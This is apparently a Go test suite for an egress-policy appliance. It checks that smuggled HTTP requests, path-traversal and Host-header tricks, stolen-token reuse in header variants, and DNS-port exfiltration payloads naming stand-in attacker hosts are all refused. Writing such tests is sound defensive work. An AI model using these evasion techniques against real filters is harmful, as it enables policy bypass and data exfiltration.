package harness

// An attacker's attempts to get past an identity's egress policy and its
// token bindings: a forbidden request behind an allowed one on the same
// connection (pipelined, after a body, after a keep-alive response),
// names the policy must not accept, and UDP to port 53 that is no DNS
// query.

import (
	"bufio"
	"bytes"
	"io"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/interdict/interdict/appliance/identity"
	"github.com/interdict/interdict/inspect/eve"
)

// kaServer is a keep-alive HTTP server: it records every byte of each
// connection and answers each request head with a short response,
// keeping the connection open.
type kaServer struct {
	mu    sync.Mutex
	conns []*bytes.Buffer
}

const kaResponse = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"

func (s *kaServer) serve(c net.Conn) {
	s.mu.Lock()
	rec := &bytes.Buffer{}
	s.conns = append(s.conns, rec)
	s.mu.Unlock()
	b := make([]byte, 4096)
	answered := 0
	for {
		n, err := c.Read(b)
		s.mu.Lock()
		rec.Write(b[:n])
		heads := bytes.Count(rec.Bytes(), []byte("\r\n\r\n"))
		s.mu.Unlock()
		if err != nil {
			return
		}
		for ; answered < heads; answered++ {
			c.Write([]byte(kaResponse))
		}
	}
}

// accepted returns the number of connections accepted so far.
func (s *kaServer) accepted() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.conns)
}

// since returns everything the connections from the i-th on received.
func (s *kaServer) since(i int) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var b strings.Builder
	for _, c := range s.conns[min(i, len(s.conns)):] {
		b.Write(c.Bytes())
	}
	return b.String()
}

// exchange writes each part on one connection from src and reads one
// response after each; it returns what the client read and the error
// that ended it (nil: every part was answered).
func exchange(t *testing.T, n *Net, src netip.Addr, parts ...string) (string, error) {
	t.Helper()
	c, err := dialFrom(n, src, httpAP, 5*time.Second)
	require.NoError(t, err)
	defer c.Close()
	var got strings.Builder
	for _, p := range parts {
		if _, err := c.Write([]byte(p)); err != nil {
			return got.String(), err
		}
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		for range max(1, strings.Count(p, "\r\n\r\n")) {
			buf := make([]byte, len(kaResponse))
			k, err := io.ReadFull(c, buf)
			got.Write(buf[:k])
			if err != nil {
				return got.String(), err
			}
		}
	}
	return got.String(), nil
}

// requireRefused sends parts on one connection from src and requires a
// reset, and that no connection since received the path.
func (s *kaServer) requireRefused(t *testing.T, n *Net, src netip.Addr, path string, parts ...string) {
	t.Helper()
	from := s.accepted()
	_, err := exchange(t, n, src, parts...)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "reset", "the connection is reset")
	assert.NotContains(t, s.since(from), path, "the refused request never reaches the server")
}

func TestEgressEvasionHTTP(t *testing.T) {
	leakCheck(t)
	in := newEgressNet(t, []identity.PolicyConfig{{Name: "deploy", Identities: []string{"runner-a"},
		Allow: []identity.AllowConfig{{To: "example.test", Ports: []int{8080}, Methods: []string{"GET", "POST"}, Paths: []string{"/v1/"}}}}}, nil, nil)
	srv := &kaServer{}
	serve(t, in.n, httpAP, srv.serve)

	get := func(path, host string) string {
		return "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n"
	}
	allowed := get("/v1/status", "example.test")
	forbidden := get("/admin/forbidden", "example.test")

	got, err := exchange(t, in.n, ClientAddr, allowed, allowed+allowed)
	require.NoError(t, err, "allowed requests pass, one after another and pipelined")
	assert.Equal(t, strings.Repeat(kaResponse, 3), got)

	for _, tc := range []struct {
		name  string
		parts []string
	}{
		{"pipelined behind an allowed request", []string{allowed + forbidden}},
		{"second request on a keep-alive connection", []string{allowed, forbidden}},
		{"after a Content-Length body", []string{"POST /v1/upload HTTP/1.1\r\nHost: example.test\r\nContent-Length: 5\r\n\r\nhello" + forbidden}},
		{"after a chunked body", []string{"POST /v1/upload HTTP/1.1\r\nHost: example.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + forbidden}},
		{"after an empty line", []string{allowed, "\r\n" + forbidden}},
		{"with a lower-case method", []string{allowed, "get /admin/forbidden HTTP/1.1\r\nHost: example.test\r\n\r\n"}},
		{"a dot segment under an allowed prefix", []string{get("/v1/../admin/forbidden", "example.test")}},
		{"an encoded dot segment", []string{get("/v1/%2e%2e/admin/forbidden", "example.test")}},
		{"an IP literal Host", []string{get("/v1/admin/forbidden", ServerAddr.String())}},
		{"a Host under the allowed name", []string{get("/v1/admin/forbidden", "example.test.evil.test")}},
		{"HTTP/2 with prior knowledge", []string{"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00" + "/admin/forbidden"}},
	} {
		t.Run(tc.name, func(t *testing.T) { srv.requireRefused(t, in.n, ClientAddr, "/admin/forbidden", tc.parts...) })
	}
	require.NotEmpty(t, in.eve.of(t, eve.TypePolicy, 0))

	got, err = exchange(t, in.n, ClientAddr, get("/v1/status", "EXAMPLE.test."), get("/v1/status", "example.test:8080"))
	require.NoError(t, err, "upper case, a trailing dot and a port in Host are the same name")
	assert.Equal(t, kaResponse+kaResponse, got)
}

func TestTokenEvasion(t *testing.T) {
	leakCheck(t)
	const secret = "glpat-Evasion0123456789abcdef"
	in := newIdentNet(t, identSetup{tokens: identity.TokensConfig{Enabled: true, Headers: []string{"X-Deploy-Key"}}})
	srv := &kaServer{}
	serve(t, in.n, httpAP, srv.serve)
	withToken := func(path, header string) string {
		return "GET " + path + " HTTP/1.1\r\nHost: example.test\r\n" + header + "\r\n\r\n"
	}
	_, err := exchange(t, in.n, ClientAddr, withToken("/bind", "Private-Token: "+secret), withToken("/again", "Private-Token: "+secret))
	require.NoError(t, err, "runner-a binds the token on first use and uses it again")
	plain := "GET /plain HTTP/1.1\r\nHost: example.test\r\n\r\n"

	for _, tc := range []struct {
		name  string
		parts []string
	}{
		{"lower-case header name", []string{withToken("/stolen", "private-token: "+secret)}},
		{"a configured header", []string{withToken("/stolen", "x-deploy-key: "+secret)}},
		{"bare LF line ends", []string{"GET /stolen HTTP/1.1\nHost: example.test\nPrivate-Token: " + secret + "\n\n"}},
		{"lower-case scheme", []string{withToken("/stolen", "authorization: bearer "+secret)}},
		{"pipelined behind a request without it", []string{plain + withToken("/stolen", "Private-Token: "+secret)}},
		{"second request on a keep-alive connection", []string{plain, withToken("/stolen", "X-Auth-Token: "+secret)}},
		{"after a Content-Length body", []string{"POST /up HTTP/1.1\r\nHost: example.test\r\nContent-Length: 3\r\n\r\nabc" + withToken("/stolen", "X-Api-Key: "+secret)}},
	} {
		t.Run(tc.name, func(t *testing.T) { srv.requireRefused(t, in.n, ClientAddr2, "/stolen", tc.parts...) })
	}

	// A server takes any token as a method. The first bytes of a flow
	// are an unknown one cut before its space (it reaches the server
	// first: the test waits for it), then the rest of that request and
	// one with the stolen token behind it.
	t.Run("an unknown method split before its space", func(t *testing.T) {
		from := srv.accepted()
		c, err := dialFrom(in.n, ClientAddr2, httpAP, 5*time.Second)
		require.NoError(t, err)
		defer c.Close()
		_, err = c.Write([]byte("Q"))
		require.NoError(t, err)
		require.Eventually(t, func() bool { return srv.since(from) == "Q" }, 10*time.Second, 10*time.Millisecond)
		_, err = c.Write([]byte("UERY /q HTTP/1.1\r\nHost: example.test\r\n\r\n" + withToken("/stolen", "Private-Token: "+secret)))
		require.NoError(t, err)
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		_, err = io.ReadAll(c)
		require.Error(t, err)
		assert.Contains(t, err.Error(), "reset", "the connection is reset")
		assert.NotContains(t, srv.since(from), "/stolen", "the request with the stolen token never reaches the server")
	})
}

// TestEgressEvasionDNSPort: UDP to port 53 is let through to any address
// only as DNS queries for allowed names: other payloads, answers sent
// as queries and queries with a second question do not pass.
func TestEgressEvasionDNSPort(t *testing.T) {
	leakCheck(t)
	in := newEgressNet(t, []identity.PolicyConfig{{Name: "ci", Tags: []string{"ci"},
		Allow: []identity.AllowConfig{{To: "db.example.test", Ports: []int{5432}}}}}, nil, nil)
	received := udpSink(t, in.n, netip.AddrPortFrom(ServerAddr, 53))

	query := func(id uint16, names ...string) []byte {
		b := []byte{byte(id >> 8), byte(id), 0x01, 0x00, 0, byte(len(names)), 0, 0, 0, 0, 0, 0}
		for _, n := range names {
			for _, l := range strings.Split(n, ".") {
				b = append(b, byte(len(l)))
				b = append(b, l...)
			}
			b = append(b, 0, 0, 1, 0, 1)
		}
		return b
	}
	answer := query(7, "exfil.attacker.test")
	answer[2] |= 0x80 // QR: a response, sent to the server
	for _, p := range [][]byte{
		[]byte("exfiltrated secret data, not DNS at all"),
		answer,
		query(8, "db.example.test", "secret-data.attacker.test"),
	} {
		c, err := dialUDPFrom(in.n, ClientAddr, netip.AddrPortFrom(ServerAddr, 53))
		require.NoError(t, err)
		_, err = c.Write(p)
		require.NoError(t, err)
		c.Close()
	}
	c, err := dialUDPFrom(in.n, ClientAddr, netip.AddrPortFrom(ServerAddr, 53))
	require.NoError(t, err)
	defer c.Close()
	_, err = c.Write(query(9, "db.example.test"))
	require.NoError(t, err)
	require.Eventually(t, func() bool { return len(received()) >= 1 && len(in.eve.of(t, eve.TypePolicy, 0)) >= 3 }, 5*time.Second, 5*time.Millisecond,
		"the allowed query arrives and the three others are denied")
	for _, ev := range in.eve.of(t, eve.TypePolicy, 0) {
		assert.Equal(t, "deny", ev.Policy.Action)
		assert.Equal(t, uint16(53), ev.DestPort)
	}
	got := received()
	require.Len(t, got, 1, "only the allowed query reached port 53")
	assert.Equal(t, query(9, "db.example.test"), got[0])
}

// udpSink listens on ap on the server side and returns what it received
// so far, one datagram each.
func udpSink(t *testing.T, n *Net, ap netip.AddrPort) (received func() [][]byte) {
	t.Helper()
	pc, err := n.ListenUDP(ap)
	require.NoError(t, err)
	var mu sync.Mutex
	var got [][]byte
	done := make(chan struct{})
	go func() {
		defer close(done)
		b := make([]byte, 1500)
		for {
			k, _, err := pc.ReadFrom(b)
			if err != nil {
				return
			}
			mu.Lock()
			got = append(got, append([]byte(nil), b[:k]...))
			mu.Unlock()
		}
	}()
	t.Cleanup(func() { pc.Close(); <-done })
	return func() [][]byte { mu.Lock(); defer mu.Unlock(); return slices.Clone(got) }
}

// TestUpgradedConnectionIsNotFramed: after the server switched protocols
// (101), a connection under a policy with paths and under token checks
// carries the new protocol's bytes both ways.
func TestUpgradedConnectionIsNotFramed(t *testing.T) {
	leakCheck(t)
	in := newIdentNet(t, identSetup{tokens: identity.TokensConfig{Enabled: true},
		policies: []identity.PolicyConfig{{Name: "ws", Identities: []string{"runner-a"},
			Allow: []identity.AllowConfig{{To: "example.test", Ports: []int{8080}, Paths: []string{"/ws"}}}}}})
	serve(t, in.n, httpAP, func(c net.Conn) {
		br := bufio.NewReader(c)
		for {
			l, err := br.ReadString('\n')
			if err != nil {
				return
			}
			if l == "\r\n" {
				break
			}
		}
		c.Write([]byte("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"))
		io.Copy(c, br)
	})
	c, err := dialFrom(in.n, ClientAddr, httpAP, 5*time.Second)
	require.NoError(t, err)
	defer c.Close()
	_, err = c.Write([]byte("GET /ws HTTP/1.1\r\nHost: example.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"))
	require.NoError(t, err)
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	br := bufio.NewReader(c)
	status, err := br.ReadString('\n')
	require.NoError(t, err)
	require.Equal(t, "HTTP/1.1 101 Switching Protocols\r\n", status)
	for {
		l, err := br.ReadString('\n')
		require.NoError(t, err)
		if l == "\r\n" {
			break
		}
	}
	frame := "\x82\x06binary\x00\x01GET /admin HTTP/1.1\r\n\r\n"
	_, err = c.Write([]byte(frame))
	require.NoError(t, err)
	got := make([]byte, len(frame))
	_, err = io.ReadFull(br, got)
	require.NoError(t, err, "the upgraded connection carries bytes that are no HTTP/1")
	assert.Equal(t, frame, string(got))
	assert.Empty(t, in.eve.of(t, eve.TypePolicy, 0))
}
